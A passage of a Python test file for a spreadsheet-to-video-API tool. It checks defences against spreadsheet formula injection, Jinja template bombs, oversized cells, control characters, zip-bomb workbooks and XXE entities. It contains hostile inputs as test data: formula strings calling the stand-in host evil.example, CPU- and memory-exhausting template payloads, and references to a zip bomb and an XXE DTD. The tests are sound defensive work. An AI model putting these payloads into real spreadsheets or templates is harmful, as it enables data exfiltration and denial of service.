    def __init__(self, app: ASGIApp, status: int, message: str) -> None:
        self.app, self.status, self.message = app, status, message

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if (
            scope["type"] == "http"
            and scope["method"] == "POST"
            and scope["path"].endswith("/videos")
        ):
            body = {"code": self.status, "message": self.message}
            await JSONResponse(body, status_code=self.status)(scope, receive, send)
            return
        await self.app(scope, receive, send)


HOSTILE_ERROR = (
    '=HYPERLINK("http://evil.example/","details")\r\n\tline two\x07\x1b[31m'
    + "x" * 5000
    + "\u202e\ufffe end"
)


@pytest.mark.parametrize("status", [400, 401])
def test_api_error_text_is_truncated_and_cannot_run_as_a_formula(
    status: int, tmp_path: Path, config: Path
) -> None:
    """A refusal's text goes into the row's argil_error (400) and, for a refusal of the whole
    run (401), onto the terminal too: one bounded line, no control characters."""
    sheet = tmp_path / "leads.csv"
    write_csv(sheet, ["email", "name", "script"], [["a@example.com", "A", "Hello."]])
    server = EmulatorServer()
    server.app.add_middleware(RefuseCreates, status=status, message=HOSTILE_ERROR)
    with server:
        for output in ("out.csv", "out.xlsx"):
            code, out, err = cli(
                run_args(sheet, config, tmp_path / output, server, "--no-preflight")
            )
            assert code == (1 if status == 400 else 3), err
            for char in "\x07\x1b\u202e":
                assert char not in out + err
            if status == 401:
                assert "Error: the run stopped: =HYPERLINK(" in err
    [row] = read_csv(tmp_path / "out.csv")
    assert row["argil_status"] == ("FAILED" if status == 400 else "PENDING")
    error = row["argil_error"]
    assert error.startswith("'=HYPERLINK(" if status == 400 else "not sent: =HYPERLINK(")
    assert len(error) <= 501
    for char in "\n\r\t\x07\x1b\u202e":
        assert char not in error
    table = list(load_workbook(tmp_path / "out.xlsx").active.iter_rows())
    cell = table[1][[c.value for c in table[0]].index("argil_error")]
    assert cell.data_type == "s" and cell.value == error.removeprefix("'")
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_values_the_api_sends_back_cannot_run_as_formulas_either(
    tmp_path: Path, config: Path
) -> None:
    """A compromised or buggy API answer (ids, links, status) is text in the output too."""
    sheet = tmp_path / "leads.csv"
    write_csv(sheet, ["email", "name", "script"], [["a@example.com", "A", "Hello."]])
    output = tmp_path / "out.csv"
    with EmulatorServer() as server:
        assert cli(run_args(sheet, config, output, server))[0] == 0
        [video] = server.emulator.videos.values()
        video["previewUrl"] = '=HYPERLINK("http://evil.example/","open")'
        video["status"] = "@SUM(1)"
        code, _, err = cli(["status", str(output.with_name("run.state")), "--no-progress"])
        assert code in (0, 1), err
    [row] = read_csv(output)
    assert row["argil_preview_url"] == '\'=HYPERLINK("http://evil.example/","open")'
    assert row["argil_status"] == "'@SUM(1)"


def test_formulas_in_a_workbook_are_read_as_their_cached_text_never_evaluated(
    tmp_path: Path,
) -> None:
    sheet = tmp_path / "f.xlsx"
    sheet.write_bytes(
        xlsx(
            SHEET_HEAD + f'<row r="1">{inline("A1", "name")}</row>'
            '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example/")</f>'
            "<v>cached text</v></c></row>" + SHEET_TAIL
        )
    )
    [row] = read_sheet(sheet).rows
    assert row.values == {"name": "cached text"}


# --- bounds on what input can make the tool do (issue 21) ---------------------------------
# Each case is refused with one line that says what limit was passed, before anything is
# sent, in little time and memory: measured in-process with tracemalloc, or in a child under
# an address-space limit where the old behaviour would take the machine's memory.

BOMBS = {
    # Nested loops: 10 billion turns, writing as they go.
    "name": "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
    # One step that would build a gigabyte.
    "wide": "{{ 'x'|center(10**9) }}",
    "padded": "{{ '%1000000000s'|format('x') }}",
}
BOMB_CONFIG = f"""\
input: {{key: email}}
video:
  name: "{BOMBS["name"]}"
  extras:
    wide: "{BOMBS["wide"]}"
    padded: "{BOMBS["padded"]}"
moments:
  - transcript: "{{{{ script }}}}"
    avatar_id: avatar-emma
"""
WRITES_TOO_MUCH = "it writes more than 65,536 characters, the most a config value may render"
CENTER_TOO_WIDE = (
    "the filter center would make 1,000,000,000 characters, more than the 1,048,576 a "
    "template may build"
)
FORMAT_TOO_WIDE = (
    "the filter format would make 1,000,000,013 characters, more than the 1,048,576 a "
    "template may build"
)


def bomb_files(tmp_path: Path, rows: int = 3, config: str = BOMB_CONFIG) -> tuple[Path, Path]:
    sheet = tmp_path / "leads.csv"
    write_csv(
        sheet,
        ["email", "script"],
        [[f"lead{n}@example.com", f"Hello lead {n}."] for n in range(rows)],
    )
    path = tmp_path / "bomb.yaml"
    path.write_text(config, encoding="utf-8")
    return sheet, path


def measured(work: Callable[[], Any]) -> tuple[Any, float, float]:
    """What ``work`` returns, the seconds it took and the peak MB it allocated."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        result = work()
        seconds = time.monotonic() - started
        peak = tracemalloc.get_traced_memory()[1] / (1 << 20)
    finally:
        tracemalloc.stop()
    return result, seconds, peak


def config_lines(config: Path, rows: str) -> list[str]:
    return [
        f"{config}:3: video.name: template error: {WRITES_TOO_MUCH} (in {rows})",
        f"{config}:5: video.extras.wide: template error: {CENTER_TOO_WIDE} (in {rows})",
        f"{config}:6: video.extras.padded: template error: {FORMAT_TOO_WIDE} (in {rows})",
    ]


def test_template_bombs_are_each_rows_error_said_once_in_little_time_and_memory(
    tmp_path: Path,
) -> None:
    sheet, config = bomb_files(tmp_path)
    report, seconds, peak_mb = measured(
        lambda: validate_rows(read_sheet(sheet), load_config(config))
    )
    assert seconds < 5 and peak_mb < 64, (seconds, peak_mb)
    assert (report.valid, report.invalid) == (0, 3)
    for plan in report.plans:
        assert [str(error) for error in plan.errors] == [
            f"name: template error: {WRITES_TOO_MUCH}",
            f"extras.wide: template error: {CENTER_TOO_WIDE}",
            f"extras.padded: template error: {FORMAT_TOO_WIDE}",
        ]
    listed = [line for plan in report.plans for line in format_row_errors(plan)]
    assert listed == config_lines(config, "3 rows: 2-4")


def test_validate_says_each_template_bomb_once_for_the_config(tmp_path: Path) -> None:
    sheet, config = bomb_files(tmp_path)
    code, out, err = cli(["validate", str(sheet), "-c", str(config)])
    assert code == 1, err
    assert out.splitlines() == [
        *config_lines(config, "3 rows: 2-4"),
        "3 rows: 0 valid, 3 invalid, 0 skipped; 0 moments, 0 characters; estimate: about "
        "0.0 min of video, about 0 credits",
    ]


def test_a_run_with_template_bombs_sends_nothing_and_says_each_once(tmp_path: Path) -> None:
    sheet, config = bomb_files(tmp_path)
    output = tmp_path / "out.csv"
    with EmulatorServer() as server:
        code, _, err = cli(run_args(sheet, config, output, server))
        assert server.emulator.stats.created == 0
    assert code == 1, err
    lines = err.splitlines()
    for line in config_lines(config, "3 rows: 2-4"):
        assert lines.count(line) == 1, err
    assert [row["argil_status"] for row in read_csv(output)] == ["INVALID"] * 3


def test_a_template_that_reads_no_column_is_not_rendered_again_for_every_row(
    tmp_path: Path,
) -> None:
    """The nested loops cost 0.1 s a render; a sheet of 400 rows must not cost 40 s."""
    sheet, config = bomb_files(tmp_path, rows=400)
    report, seconds, _ = measured(lambda: validate_rows(read_sheet(sheet), load_config(config)))
    assert seconds < 5, seconds
    assert report.invalid == 400
    listed = [line for plan in report.plans for line in format_row_errors(plan)]
    assert listed == config_lines(config, "400 rows: 2-401")


def test_a_template_too_slow_for_some_rows_is_their_error_only(tmp_path: Path) -> None:
    loops = "{% for a in script %}{% for b in script %}{% endfor %}{% endfor %}ok"
    config = tmp_path / "slow.yaml"
    config.write_text(
        "input: {key: email}\nvideo:\n  name: Intro\n"
        f'  extras: {{check: "{loops}"}}\n'
        'moments:\n  - transcript: "{{ script }}"\n    avatar_id: avatar-emma\n',
        encoding="utf-8",
    )
    sheet = tmp_path / "leads.csv"
    short, long = "Hi there.", "A longer script, said slowly. " * 20  # 81 and 360,000 turns
    write_csv(
        sheet,
        ["email", "script"],
        [[f"{n}@example.com", long if n in (1, 3) else short] for n in range(4)],
    )
    report = validate_rows(read_sheet(sheet), load_config(config))
    steps = (
        "template error: it takes more than 100,000 steps (loop turns, calls, filters), the "
        "most one render may take"
    )
    assert [plan.status for plan in report.plans] == ["valid", "invalid", "valid", "invalid"]
    assert [plan.body["extras"]["check"] for plan in report.plans if plan.body] == ["ok", "ok"]
    assert [line for plan in report.plans for line in format_row_errors(plan)] == [
        f"{config}:4: video.extras.check: {steps} (in 2 rows: 3, 5)"
    ]
    code, out, _ = cli(["validate", str(sheet), "-c", str(config)])
    assert code == 1
    assert out.splitlines()[0] == f"{config}:4: video.extras.check: {steps} (in 2 rows: 3, 5)"


def test_the_rows_a_template_limit_affects_are_named_in_runs(tmp_path: Path) -> None:
    config = tmp_path / "wide.yaml"
    config.write_text(
        "input: {key: email}\nvideo:\n  name: Intro\n"
        '  extras: {wide: "{{ script|center(width|int) }}"}\n'
        'moments:\n  - transcript: "{{ script }}"\n    avatar_id: avatar-emma\n',
        encoding="utf-8",
    )
    sheet = tmp_path / "leads.csv"
    # Rows 2-4, 6, 8, ... 30 ask for too wide a value: 14 runs, the first ten named.
    too_wide = {2, 3, 4, *range(6, 31, 2)}
    write_csv(
        sheet,
        ["email", "script", "width"],
        [[f"{n}@example.com", "Hi.", "2000000" if n in too_wide else "9"] for n in range(2, 32)],
    )
    report = validate_rows(read_sheet(sheet), load_config(config))
    assert report.invalid == len(too_wide) == 16
    assert [line for plan in report.plans for line in format_row_errors(plan)] == [
        f"{config}:4: video.extras.wide: template error: the filter center would make "
        "2,000,000 characters, more than the 1,048,576 a template may build (in 16 rows: "
        "2-4, 6, 8, 10, 12, 14, 16, 18, 20, 22 and 4 more)"
    ]


def test_templates_within_the_bounds_render_as_they_did(tmp_path: Path) -> None:
    script = " ".join(f"Sentence {n} of a long script, said slowly." for n in range(550))
    assert 24_000 < len(script) < 25_000  # about as long as 50 moments hold
    config = tmp_path / "ok.yaml"
    config.write_text(
        """\
input: {key: email}
video:
  name: "{% macro hi(who) %}Hi {{ who }}{% endmacro %}{{ hi(first|title) ~ '!' }}"
  extras:
    code: "{{ '%05d'|format(42) }}-{{ '{:,}'.format(1234567) }}-{{ 'x'|center(5) }}|"
    words: "{% set ns = namespace(n=0) %}{% for w in script.split() %}\
{% set ns.n = ns.n + 1 %}{% endfor %}{{ ns.n }}"
moments:
  - transcript: "{% for w in script.split() %}{{ w }} {% endfor %}"
    avatar_id: avatar-emma
""",
        encoding="utf-8",
    )
    sheet = tmp_path / "leads.csv"
    write_csv(sheet, ["email", "first", "script"], [["a@example.com", "ana", script]])
    [plan] = validate_rows(read_sheet(sheet), load_config(config)).plans
    assert plan.body is not None, plan.errors
    assert plan.body["name"] == "Hi Ana!"
    assert plan.body["extras"]["code"] == "00042-1,234,567-  x  |"
    assert plan.body["extras"]["words"] == str(len(script.split()))
    assert 45 < len(plan.body["moments"]) <= 50
    assert " ".join(m["transcript"] for m in plan.body["moments"]) == script


MOMENTS_CONFIG = """\
input: {key: email}
video: {name: "{{ email }}"}
moments:
  - transcript: "{{ script }}"
    avatar_id: avatar-emma
"""


def test_a_cell_of_20_mb_is_refused_as_too_many_moments_and_never_sent(tmp_path: Path) -> None:
    config = tmp_path / "config.yaml"
    config.write_text(MOMENTS_CONFIG, encoding="utf-8")  # no limits: the default ceiling
    pasted = ("A whole document pasted into one cell, sentence after sentence. " * 400_000)[
        : 20 << 20
    ]
    sheet = tmp_path / "leads.csv"
    write_csv(
        sheet,
        ["email", "script"],
        [["a@example.com", "Hello there."], ["b@example.com", pasted]],
    )
    needed = "moments[0].transcript: the script needs about 41,944 moments, more than "
    needed += "limits.max_moments (50)"
    code, out, _ = cli(["validate", str(sheet), "-c", str(config)])
    assert code == 1
    assert out.splitlines()[0] == f"row 3: {needed}"
    assert out.splitlines()[1].startswith("2 rows: 1 valid, 1 invalid, 0 skipped; 1 moment, ")
    output = tmp_path / "out.csv"
    started = time.monotonic()
    with EmulatorServer() as server:
        code, _, err = cli(run_args(sheet, config, output, server))
        assert server.emulator.stats.created == 1  # the other row only
    assert code == 1, err
    assert f"row 3: {needed}" in err.splitlines()
    assert [row["argil_error"] for row in read_csv(output)] == ["", needed]
    assert time.monotonic() - started < 20


def test_the_moment_ceiling_is_found_without_splitting_the_whole_cell() -> None:
    """No space in 5 MB, the splitter's worst case: it stops once the ceiling is passed."""
    mapper = Mapper(parse_config(MOMENTS_CONFIG), ["email", "script"])
    row = Row(2, {"email": "a@example.com", "script": "x" * (5 << 20)})
    plan, seconds, peak_mb = measured(lambda: mapper.map_row(row))
    assert [str(error) for error in plan.errors] == [
        "moments[0].transcript: the script needs about 10,486 moments, more than "
        "limits.max_moments (50)"
    ]
    assert seconds < 2 and peak_mb < 32, (seconds, peak_mb)


@pytest.mark.parametrize(
    "limits, moments, error",
    [
        ("", 60, "moments: 60 moments, more than limits.max_moments (50)"),
        ("limits: {max_moments: null}\n", 60, None),
        ("limits: {max_moments: 8}\n", 9, "moments: 9 moments, more than limits.max_moments (8)"),
    ],
)
def test_the_moment_ceiling_defaults_to_50(limits: str, moments: int, error: str | None) -> None:
    # Words of 251 characters: no two fit in one moment of 500, so each is a moment.
    script = " ".join(f"{n:03d}" + "x" * 248 for n in range(moments))
    plan = Mapper(parse_config(MOMENTS_CONFIG + limits), ["email", "script"]).map_row(
        Row(2, {"email": "a@example.com", "script": script})
    )
    if error is None:
        assert plan.status == "valid" and plan.moments == moments, plan.errors
    else:
        assert [str(e) for e in plan.errors] == [error]


CONTROL_MESSAGE = (
    "row 2, column A (name): the cell holds the control character U+0001, which is not text; "
    "delete it from the cell and retry"
)


@pytest.mark.parametrize("written", ["escaped", "raw"])
def test_a_control_character_in_a_workbook_cell_is_refused(tmp_path: Path, written: str) -> None:
    # OOXML writes a control character as _x0001_; a hand-made file may hold the byte itself.
    text = "Nul_x0001_Name_x0000_X" if written == "escaped" else "Nul\x01Name\x00X"
    sheet = tmp_path / "leads.xlsx"
    sheet.write_bytes(
        xlsx(
            SHEET_HEAD
            + f'<row r="1">{inline("A1", "name")}{inline("B1", "script")}</row>'
            + f'<row r="2">{inline("A2", text)}{inline("B2", "Hello.")}</row>'
            + SHEET_TAIL
        )
    )
    message = f"{sheet} sheet 'Sheet1': {CONTROL_MESSAGE}"
    with pytest.raises(SheetError) as refused:
        read_sheet(sheet)
    assert str(refused.value) == message
    code, _, err = cli(["validate", str(sheet), "-c", str(ROOT / "configs" / "leads.yaml")])
    assert (code, err) == (2, f"Error: {message}\n")


def test_a_control_character_anywhere_in_a_csv_is_refused_the_same_way(tmp_path: Path) -> None:
    sheet = tmp_path / "leads.csv"
    # Past the first 64 KiB, where the check for a binary file does not look.
    write_csv(
        sheet,
        ["name", "script"],
        [[f"Lead {n}", "Hello."] for n in range(5000)] + [["Nul\x01Name\x00X", "Hello."]],
    )
    with pytest.raises(SheetError) as refused:
        read_sheet(sheet)
    assert str(refused.value) == (
        f"{sheet}: {CONTROL_MESSAGE.replace('row 2, column A', 'row 5002, column 1')}"
    )


def test_a_zip_bomb_of_095_gib_is_refused_at_once(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(zip_bomb(int(0.95 * (1 << 30))))
    message = (
        f"{path} unpacks to 972 MiB, more than the 256 MiB allowed for a workbook (a zip "
        "bomb?); if the sheet is genuine, save it as CSV UTF-8 and pass the .csv file"
    )
    result = read_bounded(path, limit_mb=1024)
    assert result["outcome"] == f"refused: {message}", result
    assert result["seconds"] < 2 and result["maxrss_mb"] < 200, result
    code, _, err = cli(["validate", str(path), "-c", str(ROOT / "configs" / "leads.yaml")])
    assert (code, err) == (2, f"Error: {message}\n")


def test_a_genuine_sheet_of_100000_rows_fits_under_the_workbook_ceiling(tmp_path: Path) -> None:
    """1,000 rows written by openpyxl, scripts of some 850 characters (a minute of speech),
    measured and multiplied: 100,000 of them must read, not be taken for a zip bomb."""
    rng = random.Random(21)
    words = ["launch", "product", "team", "report", "customer", "growth", "faster", "today"]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Leads")
    sheet.append(["email", "first_name", "company", "market", "script", "avatar", "voice"])
    for n in range(1000):
        script = " ".join(rng.choice(words) for _ in range(rng.randint(60, 180))) + "."
        sheet.append([f"lead{n}@example.com", f"First{n}", f"Company {n}", "US", script, "a", "v"])
    path = tmp_path / "leads.xlsx"
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        unpacked = sum(info.file_size for info in archive.infolist())
    assert len(read_sheet(path).rows) == 1000
    assert unpacked * 100 * 1.5 < _MAX_UNZIPPED_BYTES, unpacked  # with half again to spare


def test_a_workbook_declaring_entities_in_its_shared_strings_says_so(tmp_path: Path) -> None:
    sheet = tmp_path / "leads.xlsx"
    sheet.write_bytes(
        xlsx(
            SHEET_HEAD + '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
            '<row r="2"><c r="A2" t="s"><v>1</v></c></row>' + SHEET_TAIL,
            {
                "xl/sharedStrings.xml": '<?xml version="1.0" encoding="UTF-8"?>'
                + XXE_DTD
                + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                "<si><t>name</t></si><si><t>&xxe;</t></si></sst>"
            },
        )
    )
    message = (
        f"{sheet}: the workbook's sharedStrings.xml declares a DTD (<!DOCTYPE or <!ENTITY), "
        "which is refused for safety; open it in Excel or LibreOffice and save it as .xlsx "
        "again, or save it as CSV"
    )
    with pytest.raises(SheetError) as refused:
        read_sheet(sheet)
    assert str(refused.value) == message
    code, _, err = cli(["validate", str(sheet), "-c", str(ROOT / "configs" / "leads.yaml")])
    assert (code, err) == (2, f"Error: {message}\n")
